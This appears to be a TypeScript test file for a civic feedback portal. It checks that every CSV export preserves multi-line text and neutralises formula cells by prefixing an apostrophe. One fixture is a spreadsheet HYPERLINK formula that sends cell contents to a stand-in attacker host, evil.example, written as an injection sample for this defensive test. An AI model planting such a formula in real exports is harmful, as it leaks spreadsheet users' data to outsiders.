// Every CSV file the portal writes (the open data, the inbox export, a questionnaire's answers and
// results, the import samples) read back by a strict reader, one that ends a record on any line
// break outside quotes as Python's csv module and spreadsheets do: every record is as wide as the
// header, and text with line breaks, quotes and commas comes back exactly as written; a cell
// starting with = + - @ comes back as written behind the one apostrophe that keeps it text.
import type request from 'supertest';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { CHANNELS } from '../../server/opinions/channels.js';
import { buildTestApp, type TestApp } from '../helpers/app.js';
import { createCampaign, createUnit, signInAs } from '../helpers/factories.js';
import { coordinator, promised } from '../reminders/support.js';
import { answerOverHttp, buildOverHttp } from '../surveys/support.js';
import { download, readStrictly, seed } from './support.js';

/** Text that breaks a careless writer: each line break alone (which a writer may not quote), all of them with quotes and commas. */
const LF = 'First line\nsecond line';
const CR = 'First line\rsecond line';
const MULTI_LINE = 'First line, with a comma\nsecond "quoted" line\r\nthird line\rfourth，第四行';
const TEXTS = [LF, CR, MULTI_LINE];
const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A9)'];
const UNIT = 'Housing bureau\neast';

/** Reads the download strictly; answers its rows, the header first. */
async function strictly(agent: request.Agent, url: string, lang?: string): Promise<string[][]> {
  const d = await download(agent, url, lang);
  expect(d.res.status, url).toBe(200);
  expect(d.res.headers['content-type'], url).toBe('text/csv; charset=utf-8');
  return readStrictly(d.text);
}

const cells = (rows: string[][]) => rows.flat();

describe('every CSV the portal writes reads back strictly', () => {
  let t: TestApp;
  let campaignId: number;
  let unitId: number;
  beforeEach(async () => {
    t = await buildTestApp();
    campaignId = await createCampaign(t.app.db);
    unitId = await createUnit(t.app.db, { name: UNIT });
  });
  afterEach(async () => t.close());

  it('the inbox export, with and without personal details', async () => {
    for (const body of TEXTS)
      await seed(t, {
        campaignId,
        unitId,
        body,
        anonymous: false,
        submitterName: 'Chen\nJing',
        submitterPhone: '139 0000 1111',
        submitterEmail: 'chen@example.org',
      });
    for (const body of FORMULAS)
      await seed(t, { campaignId, body, channel: 'suggestion_box', details: { slip_number: '=1+1' } });
    const { agent } = await signInAs(t, 'coordinator');
    for (const personal of ['', '&personal=1']) {
      const rows = await strictly(agent, `/staff/opinions/export.csv?campaign=${campaignId}${personal}`);
      expect(rows).toHaveLength(1 + TEXTS.length + FORMULAS.length);
      for (const text of TEXTS) expect(cells(rows)).toContain(text);
      expect(cells(rows)).toContain(UNIT);
      for (const f of FORMULAS) expect(cells(rows)).toContain(`'${f}`);
      expect(cells(rows)).toContain("'=1+1");
      if (personal) expect(cells(rows)).toContain('Chen\nJing');
    }
  });

  it('the open data’s rectifications', async () => {
    const actor = await coordinator(t);
    await promised(t, actor, {
      campaignId,
      unitId,
      title: MULTI_LINE,
      description: FORMULAS[0],
      measures: [{ description: 'Fix it', deadline: '2026-12-31' }],
    });
    await promised(t, actor, {
      campaignId,
      unitId,
      title: FORMULAS[1],
      description: LF,
      measures: [{ description: 'Fix it', deadline: '2026-12-31' }],
    });
    await promised(t, actor, {
      campaignId,
      unitId,
      title: CR,
      description: '-1 and more',
      measures: [{ description: 'Fix it', deadline: '2026-12-31' }],
    });
    for (const lang of ['en', 'zh-CN']) {
      const rows = await strictly(t.agent(), '/open-data/rectifications.csv', lang);
      expect(rows).toHaveLength(4);
      const [header, ...body] = rows;
      const column = (name: string) => body.map((r) => r[header!.indexOf(name)]);
      expect(column('problem_title')).toEqual([MULTI_LINE, `'${FORMULAS[1]}`, CR]);
      expect(column('problem_description')).toEqual([`'${FORMULAS[0]}`, LF, "'-1 and more"]);
      expect(column('unit')).toEqual([UNIT, UNIT, UNIT]);
    }
  });

  it('a questionnaire’s answers and results', async () => {
    const { agent } = await signInAs(t, 'coordinator');
    const built = await buildOverHttp(t, agent, {
      questions: [
        { kind: 'single', prompt: '=Which, "one"?', required: '1', options: 'Yes, "mostly"\n@No\n-Maybe' },
        { kind: 'text', prompt: 'What should change?', required: '', options: '' },
      ],
    });
    const [single, text] = built.questions as [number, number];
    // The forms keep a textarea's line breaks as LF (a browser sends CRLF).
    const written = 'Open at lunchtime,\nand "answer" the phone.\n=1+1';
    for (const [option, answer] of [
      ['0', written],
      ['1', FORMULAS[0]!],
      ['2', 'Line one\nline two'],
      ['0', ''],
    ] as const) {
      const res = await answerOverHttp(t.agent(), built.id, {
        [`q${single}`]: option,
        ...(answer ? { [`q${text}`]: answer } : {}),
      });
      expect(res.status, res.text.slice(0, 500)).toBe(303);
    }

    for (const lang of ['en', 'zh-CN']) {
      const answers = await strictly(agent, `/staff/questionnaires/${built.id}/answers.csv`, lang);
      expect(answers).toHaveLength(5);
      expect(answers[0]).toContain('1. =Which, "one"?');
      expect(cells(answers)).toContain(written);
      expect(cells(answers)).toContain('Line one\nline two');
      expect(cells(answers)).toContain(`'${FORMULAS[0]}`);
      expect(cells(answers)).toContain('Yes, "mostly"');
      expect(cells(answers)).toContain("'@No");
      expect(cells(answers)).toContain("'-Maybe");

      const results = await strictly(agent, `/staff/questionnaires/${built.id}/results.csv`, lang);
      expect(results.length).toBeGreaterThan(4);
      expect(cells(results)).toContain('\'=Which, "one"?');
      expect(cells(results)).toContain('Yes, "mostly"');
      expect(cells(results)).toContain("'@No");
      expect(cells(results)).toContain("'-Maybe");
    }
  });

  it('the import sample of every channel, in both languages', async () => {
    for (const locale of ['en', 'zh-CN'] as const) {
      const { agent } = await signInAs(t, 'supervisor', { watches: [unitId], locale });
      for (const channel of CHANNELS) {
        const rows = await strictly(agent, `/staff/imports/sample/${channel}.csv`, locale);
        expect(rows, channel).toHaveLength(3);
        expect(rows[1], channel).toContain(UNIT);
      }
    }
  });
});
